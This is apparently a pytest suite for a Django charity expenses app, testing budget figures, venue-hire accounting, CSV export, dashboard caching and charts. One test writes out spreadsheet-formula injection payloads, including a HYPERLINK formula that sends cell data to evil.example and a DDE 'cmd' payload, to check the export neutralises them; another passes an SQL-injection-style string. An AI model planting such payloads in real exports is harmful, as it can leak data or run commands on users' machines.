from __future__ import annotations

import csv
import io
import re
from datetime import date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.urls import reverse
from django.utils import timezone

from expenses.alerts import check_budget_alerts
from expenses.models import Allocation, Category, DirectSpend, ExpenseClaim, ExpenseStatus
from expenses.reports import year_figures
from expenses.views import DASHBOARD_ROWS
from hope.roles import Role
from programmes.models import CourseStatus, Session
from tests.expenses.rides import claim_for_rides, past_course, rider, rides_at
from tests.factories import BudgetFactory, CourseFactory, UserFactory, VenueFactory

pytestmark = pytest.mark.django_db
LONDON = ZoneInfo("Europe/London")
UNDECIDED = (ExpenseStatus.DRAFT, ExpenseStatus.SUBMITTED)
D = Decimal


def make_claims(claimant, decider, count: int, start: date) -> list[ExpenseClaim]:
    """Claims in every status, written in bulk (the workflow has its own tests)."""
    statuses = [
        ExpenseStatus.PAID,
        ExpenseStatus.APPROVED,
        ExpenseStatus.SUBMITTED,
        ExpenseStatus.REJECTED,
        ExpenseStatus.DRAFT,
    ]
    categories = [Category.TRAINING, Category.VOLUNTEER_EXPENSES, Category.DRIVERS, Category.OTHER]
    claims = []
    for n in range(count):
        status = statuses[n % len(statuses)]
        claims.append(
            ExpenseClaim(
                claimant=claimant, spent_on=start + timedelta(days=n % 300),
                category=categories[n % len(categories)], description=f"Claim {n}",
                amount=D(n % 97) + D("0.37"), status=status,
                decided_by=None if status in UNDECIDED else decider,
                rejection_reason="Duplicate" if status == ExpenseStatus.REJECTED else "",
                paid_on=start if status == ExpenseStatus.PAID else None,
                payment_reference="R" if status == ExpenseStatus.PAID else "",
            )
        )  # fmt: skip
    return ExpenseClaim.objects.bulk_create(claims)


@pytest.fixture
def year():
    with time_machine.travel(datetime(2026, 10, 15, 12, tzinfo=LONDON), tick=False):
        yield BudgetFactory(start_year=2026, total=D("7500.00"))


def test_every_figure_matches_an_independent_sum(year):
    claimant, lead = UserFactory(roles=[Role.VOLUNTEER]), UserFactory(roles=[Role.FINANCE_LEAD])
    claims = make_claims(claimant, lead, 120, date(2026, 4, 1))
    make_claims(claimant, lead, 10, date(2025, 4, 1))  # last year: not counted
    venue = VenueFactory(hire_cost=D("25.50"))
    held = CourseFactory(venue=venue, first_start=datetime(2026, 9, 1, 10, tzinfo=LONDON))
    future = CourseFactory(venue=venue, first_start=datetime(2026, 12, 1, 10, tzinfo=LONDON))
    cancelled = future.sessions.get(number=6)
    cancelled.is_cancelled = True
    cancelled.save()
    # An invoice for September replaces the automatic hire of the sessions it covers.
    invoice = DirectSpend.objects.create(
        spent_on=date(2026, 10, 1), category=Category.VENUE_HIRE, description="Invoice",
        amount=D("80.00"), venue=venue, covers_from=date(2026, 9, 1), covers_to=date(2026, 9, 30),
    )  # fmt: skip
    DirectSpend.objects.create(
        spent_on=date(2026, 5, 5),
        category=Category.TRAINING,
        description="Manuals",
        amount=D("216.00"),
    )
    Allocation.objects.create(budget=year, category=Category.VENUE_HIRE, amount=D("100.00"))

    figures = year_figures(year)

    def total(status):
        return sum((c.amount for c in claims if c.status == status), D("0"))

    now = timezone.now()
    sessions = list(Session.objects.filter(course__in=[held, future], is_cancelled=False))
    uninvoiced = [
        s
        for s in sessions
        if not (date(2026, 9, 1) <= timezone.localtime(s.start).date() <= date(2026, 9, 30))
    ]
    held_hire = sum((venue.hire_cost for s in uninvoiced if s.start <= now), D("0"))
    future_hire = sum((venue.hire_cost for s in uninvoiced if s.start > now), D("0"))
    assert figures.paid_claims == total(ExpenseStatus.PAID)
    assert figures.approved_unpaid == total(ExpenseStatus.APPROVED)
    assert figures.submitted == total(ExpenseStatus.SUBMITTED)
    assert figures.direct_spend == invoice.amount + D("216.00")
    assert figures.venue_hire_held == held_hire == D("25.50")  # 6 October; September invoiced
    assert figures.venue_hire_committed == future_hire == D("127.50")  # five, one cancelled
    assert figures.spent == total(ExpenseStatus.PAID) + D("296.00") + held_hire
    assert (
        figures.remaining
        == D("7500.00") - figures.spent - total(ExpenseStatus.APPROVED) - future_hire
    )
    venue_line = next(line for line in figures.categories if line.category == Category.VENUE_HIRE)
    assert venue_line.spent == D("80.00") + held_hire and venue_line.over
    assert sum((line.spent for line in figures.categories), D("0")) == figures.spent
    assert figures.months[-1][1] == figures.spent
    assert all(isinstance(value, Decimal) for _, value in figures.months)


def test_forecast_from_the_run_rate(year):
    DirectSpend.objects.create(
        spent_on=date(2026, 5, 1), category=Category.OTHER, description="x", amount=D("1980.00")
    )
    figures = year_figures(year)
    # 1 April to 15 October is 198 days of 365: 1,980 ÷ 198 × 365 = 3,650.00
    assert figures.year_end_at_run_rate == D("3650.00")
    assert figures.run_rate_difference == D("3850.00")


@pytest.mark.parametrize("page_name", ["dashboard", "claims", "export"])
def test_pages_run_a_fixed_number_of_queries(
    client, year, django_assert_max_num_queries, page_name
):
    claimant, lead = UserFactory(roles=[Role.VOLUNTEER]), UserFactory(roles=[Role.FINANCE_LEAD])
    user, url = {
        "dashboard": (lead, reverse("expenses:dashboard")),
        "claims": (claimant, reverse("expenses:claim_list")),
        "export": (lead, reverse("expenses:export", args=[2026])),
    }[page_name]
    client.force_login(user)
    # Mileage claims made from rides too (the drivers' figures and the export's Rides).
    sessions = list(past_course(days_ago=8).sessions.order_by("number")[:2])
    driver = UserFactory(roles=[Role.VOLUNTEER], is_driver=True)
    counts = []
    for size in (10, 3000):
        make_claims(claimant, lead, size, date(2026, 4, 1))
        for session in sessions:
            rides = rides_at([session], [rider() for _ in range(size // 500 + 1)], by=driver)
            claim_for_rides(rides, amount=D("9.40"), decider=lead, status=ExpenseStatus.PAID)
        client.get(url)
        with django_assert_max_num_queries(20) as captured:
            response = client.get(url)
            if response.streaming:
                b"".join(response.streaming_content)
        counts.append(len(captured.captured_queries))
    assert counts[0] == counts[1], counts


def test_export_opens_cleanly_in_excel_and_reads_back(client, year, finance_lead):
    claimant = UserFactory(roles=[Role.VOLUNTEER], full_name="Val Singh")
    make_claims(claimant, finance_lead, 5, date(2026, 4, 1))
    DirectSpend.objects.create(
        spent_on=date(2026, 5, 5),
        category=Category.TRAINING,
        description="Manuals, “new”",
        amount=D("216.00"),
    )
    CourseFactory(
        venue=VenueFactory(hire_cost=D("15.00")),
        first_start=datetime(2026, 11, 3, 10, tzinfo=LONDON),
    )
    client.force_login(finance_lead)
    response = client.get(reverse("expenses:export", args=[2026]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content)
    assert body.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    claims = [r for r in rows if r["Type"] == "Out-of-pocket expense"]
    assert len(claims) == 4  # drafts are not exported
    assert all(r["Date"].count("-") == 2 and len(r["Date"]) == 10 for r in rows)
    assert sum(D(r["Amount"]) for r in claims) == sum(
        c.amount for c in ExpenseClaim.objects.exclude(status=ExpenseStatus.DRAFT)
    )
    spend = next(r for r in rows if r["Type"] == "Direct spend")
    assert spend["Description"] == "Manuals, “new”" and spend["Amount"] == "216.00"
    assert sum(1 for r in rows if r["Type"] == "Venue hire (session)") == 6
    assert client.get(reverse("expenses:export", args=[1999])).status_code == 404


def test_export_neutralises_spreadsheet_formulas_and_keeps_numbers_numeric(
    client, year, finance_lead
):
    claimant = UserFactory(roles=[Role.VOLUNTEER], full_name="@SUM(A1:A9)")
    hostile = {
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")': "=cmd|' /C calc'!A0",
        "+44 7700 900123": "-2+3",
        "\tTabbed": "\rReturned",
        "Plain description": "REF-1",
    }
    for n, (description, reference) in enumerate(hostile.items()):
        ExpenseClaim.objects.create(
            claimant=claimant, spent_on=date(2026, 6, 1 + n), category=Category.OTHER,
            description=description, amount=D("12.50"), status=ExpenseStatus.PAID,
            decided_by=finance_lead, paid_on=date(2026, 6, 20), payment_reference=reference,
        )  # fmt: skip
    client.force_login(finance_lead)
    body = b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_description = {row["Description"]: row for row in rows}
    formula = by_description['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")']
    assert formula["Payment reference"] == "'=cmd|' /C calc'!A0"
    assert formula["Claimant"] == "'@SUM(A1:A9)"
    assert by_description["'+44 7700 900123"]["Payment reference"] == "'-2+3"
    assert by_description["'\tTabbed"]["Payment reference"] == "'\rReturned"
    assert by_description["Plain description"]["Payment reference"] == "REF-1"
    assert {row["Amount"] for row in rows if row["Type"] != "Venue hire (session)"} == {"12.50"}


def test_export_writes_each_sessions_hire_with_its_london_day_and_a_formula_safe_description(
    client, year, finance_lead
):
    venue = VenueFactory(name='=HYPERLINK("x"), hall', hire_cost=D("15.00"))
    # Held at 00:30 on 1 October in London (23:30 on 30 September in UTC), then weekly.
    course = CourseFactory(venue=venue, first_start=datetime(2026, 10, 1, 0, 30, tzinfo=LONDON))
    client.force_login(finance_lead)
    body = b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    hire = [row for row in rows if row["Type"] == "Venue hire (session)"]
    assert len(hire) == course.sessions.count() == 6
    first = hire[0]
    assert first["Date"] == "2026-10-01" and first["Category"] == "Venue hire"
    assert first["Description"] == f'\'=HYPERLINK("x"), hall: {course.title}, session 1'
    assert first["Amount"] == "15.00"
    assert [row["Status"] for row in hire] == ["Spent"] * 3 + ["Committed"] * 3
    blank = (first["Claimant"], first["Paid on"], first["Payment reference"], first["Rides"])
    assert blank == ("", "", "", "")


def test_every_export_is_on_the_audit_trail(client, year, finance_lead):
    from hope.models import AuditEvent

    client.force_login(finance_lead)
    b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
    event = AuditEvent.objects.get(action="export.spend_csv")
    assert event.actor == finance_lead and event.area == "money"


def test_finance_lead_sets_up_a_budget_with_allocations(client, finance_lead):
    client.force_login(finance_lead)
    response = client.post(
        reverse("expenses:budget_list"), {"start_year": "2027", "total": "7500.00"}
    )
    from expenses.models import Budget

    budget = Budget.objects.get(start_year=2027)
    assert response.url == reverse("expenses:budget_edit", args=[budget.pk])
    data = {
        "start_year": "2027", "total": "7500.00",
        "allocations-TOTAL_FORMS": "5", "allocations-INITIAL_FORMS": "0",
        "allocations-MIN_NUM_FORMS": "0", "allocations-MAX_NUM_FORMS": "5",
        "allocations-0-category": "venue_hire", "allocations-0-amount": "2500.00",
    }  # fmt: skip
    client.post(reverse("expenses:budget_edit", args=[budget.pk]), data)
    assert budget.allocations.get().amount == D("2500.00")
    from hope.models import AuditEvent

    assert AuditEvent.objects.filter(action="budget.allocations_changed").exists()
    response = client.post(reverse("expenses:budget_list"), {"start_year": "2027", "total": "-1"})
    assert response.status_code == 200 and response.context["form"].errors


@pytest.mark.parametrize("name", ["categories", "cumulative"])
def test_charts_are_images_with_nothing_from_outside_and_no_script(
    client, year, finance_lead, name
):
    client.force_login(finance_lead)
    page = client.get(reverse("expenses:dashboard")).content.decode()
    chart_url = reverse("expenses:chart", args=[2026, name])
    assert f'<img src="{chart_url}"' in page
    assert "<svg" not in page.split("hope-budget-bar")[-1]  # charts are not inlined
    response = client.get(chart_url)
    svg = response.content.decode()
    assert response["Content-Type"] == "image/svg+xml"
    assert "<script" not in svg.lower() and "kozea" not in svg
    assert "default-src 'none'" in response["Content-Security-Policy"]
    assert client.get(reverse("expenses:chart", args=[2026, "other"])).status_code == 404


def test_only_published_courses_sessions_cost_hire_in_figures_export_and_alerts(
    client, year, finance_lead
):
    venue = VenueFactory(hire_cost=D("700.00"))
    # A draft course, four sessions held (the last this morning) and two to come: £4,200
    # of hire if it counted.
    draft = CourseFactory(
        venue=venue,
        status=CourseStatus.DRAFT,
        first_start=datetime(2026, 9, 24, 10, tzinfo=LONDON),
    )
    CourseFactory(
        venue=VenueFactory(hire_cost=D("700.00")),
        status=CourseStatus.CANCELLED,
        first_start=datetime(2026, 9, 24, 10, tzinfo=LONDON),
    )
    figures = year_figures(year)
    assert (figures.venue_hire_held, figures.venue_hire_committed) == (D("0.00"), D("0.00"))
    client.force_login(finance_lead)
    body = b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
    assert "Venue hire (session)" not in body.decode("utf-8-sig")
    assert check_budget_alerts(budget=year) == 0  # £7,500 budget: a counted draft is 56 %

    draft.status = CourseStatus.PUBLISHED
    draft.save()
    figures = year_figures(year)
    assert (figures.venue_hire_held, figures.venue_hire_committed) == (D("2800.00"), D("1400.00"))
    assert check_budget_alerts(budget=year) == 1  # 50 %, to the one finance lead


def test_an_invoice_paid_in_april_for_march_leaves_march_hire_in_the_old_year(year):
    last_year = BudgetFactory(start_year=2025)
    venue = VenueFactory(hire_cost=D("40.00"))
    # Thursdays 5, 12, 19 and 26 March (2025/26), then 2 and 9 April (2026/27).
    CourseFactory(venue=venue, first_start=datetime(2026, 3, 5, 10, tzinfo=LONDON))
    DirectSpend.objects.create(
        spent_on=date(2026, 4, 10), category=Category.VENUE_HIRE, description="March invoice",
        amount=D("150.00"), venue=venue, covers_from=date(2026, 3, 1),
        covers_to=date(2026, 4, 5),
    )  # fmt: skip
    old = year_figures(last_year)
    assert old.venue_hire_held == D("160.00")  # March's four sessions keep their hire
    assert old.direct_spend == D("0.00")
    new = year_figures(year)
    assert new.direct_spend == D("150.00")
    assert new.venue_hire_held == D("40.00")  # 2 April is invoiced, 9 April is not


def test_a_new_hire_price_never_rewrites_past_spend(client, year, coordinator, finance_lead):
    venue = VenueFactory(name="Oakfield Library", hire_cost=D("25.00"))
    CourseFactory(venue=venue, first_start=datetime(2026, 9, 1, 10, tzinfo=LONDON))  # all held
    CourseFactory(venue=venue, first_start=datetime(2026, 11, 3, 10, tzinfo=LONDON))
    assert year_figures(year).venue_hire_held == D("150.00")
    client.force_login(coordinator)
    edit = client.get(reverse("venues:venue_edit", args=[venue.pk])).context["form"].initial
    data = {k: v for k, v in edit.items() if v is not None and v is not False}
    client.post(reverse("venues:venue_edit", args=[venue.pk]), {**data, "hire_cost": "50.00"})
    venue.refresh_from_db()
    assert venue.hire_cost == D("50.00")

    figures = year_figures(year)
    assert figures.venue_hire_held == D("150.00")  # six sessions at £25, as they were
    assert figures.venue_hire_committed == D("300.00")  # six to come at £50
    assert figures.months[-1][1] == figures.spent
    client.force_login(finance_lead)
    body = b"".join(client.get(reverse("expenses:export", args=[2026])).streaming_content)
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    hire = [(r["Status"], r["Amount"]) for r in rows if r["Type"] == "Venue hire (session)"]
    assert hire == [("Spent", "25.00")] * 6 + [("Committed", "50.00")] * 6


def test_dashboard_names_spent_and_committed_apart_from_the_run_rate(client, year, finance_lead):
    DirectSpend.objects.create(
        spent_on=date(2026, 5, 1), category=Category.OTHER, description="x", amount=D("1980.00")
    )
    claimant = UserFactory(roles=[Role.VOLUNTEER])
    ExpenseClaim.objects.create(
        claimant=claimant, spent_on=date(2026, 10, 1), category=Category.OTHER,
        description="Approved", amount=D("450.00"), status=ExpenseStatus.APPROVED,
        decided_by=finance_lead,
    )  # fmt: skip
    CourseFactory(  # six sessions to come at £400: £2,400 committed
        venue=VenueFactory(hire_cost=D("400.00")),
        first_start=datetime(2026, 11, 3, 10, tzinfo=LONDON),
    )
    figures = year_figures(year)
    assert figures.spent_and_committed == D("4830.00")  # 1,980 + 450 + 2,400
    assert figures.year_end_at_run_rate == D("3650.00")  # 1,980 ÷ 198 days × 365
    client.force_login(finance_lead)
    page = re.sub(r"<[^>]+>", "", client.get(reverse("expenses:dashboard")).content.decode())
    html = " ".join(page.split())
    assert "Spent and committed so far: £4,830.00" in html
    assert "Year-end at the run rate so far: £3,650.00" in html
    assert "an underspend of £3,850.00" in html


@pytest.mark.parametrize("name", ["categories", "cumulative"])
def test_chart_text_is_readable_on_a_phone(client, year, finance_lead, name):
    """Shown at a 390 px phone's width (358 px of chart inside the page's margins), the
    smallest text of each chart is still at least 11 px high."""
    client.force_login(finance_lead)
    svg = client.get(reverse("expenses:chart", args=[2026, name])).content.decode()
    width = float(re.search(r'viewBox="0 0 ([\d.]+) [\d.]+"', svg)[1])
    sizes = [float(size) for size in re.findall(r"font-size:\s*([\d.]+)px", svg)]
    assert sizes and min(sizes) * 358 / width >= 11, (width, sorted(set(sizes)))
    page = client.get(reverse("expenses:dashboard")).content.decode()
    assert f'width="{width:.0f}"' in page  # the page reserves the chart's own shape


def dashboard_figures(client):
    return client.get(reverse("expenses:dashboard")).context["figures"]


def test_dashboard_figures_are_remembered_until_money_changes(
    client, year, django_capture_on_commit_callbacks
):
    from expenses.services import expense_approve

    claimant, lead = UserFactory(roles=[Role.VOLUNTEER]), UserFactory(roles=[Role.FINANCE_LEAD])
    client.force_login(lead)
    waiting = ExpenseClaim.objects.create(
        claimant=claimant, spent_on=date(2026, 9, 1), category=Category.OTHER,
        description="Certificates", amount=D("12.00"), status=ExpenseStatus.SUBMITTED,
    )  # fmt: skip
    first = dashboard_figures(client)
    assert (first.submitted, first.approved_unpaid) == (D("12.00"), D("0.00"))
    chart = client.get(reverse("expenses:chart", args=[2026, "categories"])).content
    with django_capture_on_commit_callbacks(execute=True):
        expense_approve(claim=waiting, by=lead)
    after = dashboard_figures(client)
    assert (after.submitted, after.approved_unpaid) == (D("0.00"), D("12.00"))
    # The figures' HTML is remembered with them, and forgotten with them.
    page = client.get(reverse("expenses:dashboard")).content.decode()
    assert re.search(r"Approved, not yet paid</th><td[^>]*>£12\.00<", page)
    assert client.get(reverse("expenses:chart", args=[2026, "categories"])).content != chart


def test_queues_show_a_page_at_a_time_oldest_first(client, year):
    claimant, lead = UserFactory(roles=[Role.VOLUNTEER]), UserFactory(roles=[Role.FINANCE_LEAD])
    for status in (ExpenseStatus.SUBMITTED, ExpenseStatus.APPROVED):
        for n in range(DASHBOARD_ROWS + 2):
            ExpenseClaim.objects.create(
                claimant=claimant, spent_on=date(2026, 9, 1), category=Category.OTHER,
                description=f"{status} {n:02}", amount=D("1.00"), status=status,
                submitted_at=datetime(2026, 9, 2, tzinfo=LONDON) + timedelta(minutes=n),
                decided_by=lead if status == ExpenseStatus.APPROVED else None,
                decided_at=datetime(2026, 9, 3, tzinfo=LONDON) + timedelta(minutes=n)
                if status == ExpenseStatus.APPROVED else None,
            )  # fmt: skip
    client.force_login(lead)
    url = reverse("expenses:dashboard")
    first = client.get(url).content.decode()
    assert f"{DASHBOARD_ROWS + 2} claims waiting, oldest first" in first
    assert "submitted 00" in first and f"submitted {DASHBOARD_ROWS - 1:02}" in first
    assert f"submitted {DASHBOARD_ROWS:02}" not in first
    assert "approved 00" in first and f"approved {DASHBOARD_ROWS:02}" not in first
    # Each list pages on its own, keeping the other's page.
    second = client.get(url, {"waiting": 2, "paying": 1}).content.decode()
    assert f"submitted {DASHBOARD_ROWS + 1:02}" in second and "submitted 00" not in second
    assert "approved 00" in second
    assert 'href="?waiting=2&amp;paying=2"' in second
    # A page number that is not one shows the first page, never an error.
    assert client.get(url, {"waiting": "x'--"}).status_code == 200


def test_remembered_figures_cost_no_figure_queries(client, year, django_assert_max_num_queries):
    lead = UserFactory(roles=[Role.FINANCE_LEAD])
    client.force_login(lead)
    client.get(reverse("expenses:dashboard"))
    client.get(reverse("expenses:dashboard"))
    # Sign-in, the year, the years, the two queues and their counts: the ten figure
    # queries are remembered.
    with django_assert_max_num_queries(9):
        client.get(reverse("expenses:dashboard"))


def test_remembered_venue_hire_follows_sessions_starting_and_cancelled(
    client, year, django_capture_on_commit_callbacks
):
    from programmes.services import session_cancel

    lead, coordinator = (
        UserFactory(roles=[Role.FINANCE_LEAD]),
        UserFactory(roles=[Role.COORDINATOR]),
    )
    client.force_login(lead)
    venue = VenueFactory(hire_cost=D("20.00"))
    course = CourseFactory(venue=venue, first_start=datetime(2026, 10, 16, 10, tzinfo=LONDON))
    first = dashboard_figures(client)
    assert (first.venue_hire_held, first.venue_hire_committed) == (D("0.00"), D("120.00"))
    # The first session starts: its hire is spent now, remembered figures or not.
    with time_machine.travel(datetime(2026, 10, 16, 10, 1, tzinfo=LONDON), tick=False):
        client.force_login(lead)  # a day on: signed out for being idle
        started = dashboard_figures(client)
        assert (started.venue_hire_held, started.venue_hire_committed) == (
            D("20.00"),
            D("100.00"),
        )
        with django_capture_on_commit_callbacks(execute=True):
            session_cancel(session=course.sessions.get(number=6), by=coordinator)
        assert dashboard_figures(client).venue_hire_committed == D("80.00")


def test_a_finance_leads_own_claim_waits_for_another_to_decide(client, year):
    lead, claimant = UserFactory(roles=[Role.FINANCE_LEAD]), UserFactory(roles=[Role.VOLUNTEER])
    for who, what in ((lead, "Own <train> fare"), (claimant, "Bus & tram")):
        ExpenseClaim.objects.create(
            claimant=who, spent_on=date(2026, 9, 1), category=Category.OTHER,
            description=what, amount=D("3.50"), status=ExpenseStatus.SUBMITTED,
            submitted_at=timezone.now(),
        )  # fmt: skip
    client.force_login(lead)
    page = client.get(reverse("expenses:dashboard")).content.decode()
    queue = page.split('id="queue-heading"')[1].split('id="topay-heading"')[0]
    rows = re.findall(r"<tr>\s*<th scope=\"row\".*?</tr>", queue, re.S)
    own, other = sorted(rows, key=lambda row: "Own" not in row)
    assert "1 Sep 2026: Own &lt;train&gt; fare" in own
    assert "Your own claim: another finance lead decides." in own and "Approve" not in own
    assert "1 Sep 2026: Bus &amp; tram" in other and "£3.50" in other
    assert 'Approve<span class="visually-hidden"> claim ' in other
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', other).group(1)
    action = re.search(r'<form method="post" action="([^"]+)"', other).group(1)
    response = client.post(action, {"csrfmiddlewaretoken": token, "next": "dashboard"})
    assert response.url == reverse("expenses:dashboard")
    assert ExpenseClaim.objects.get(description="Bus & tram").status == ExpenseStatus.APPROVED
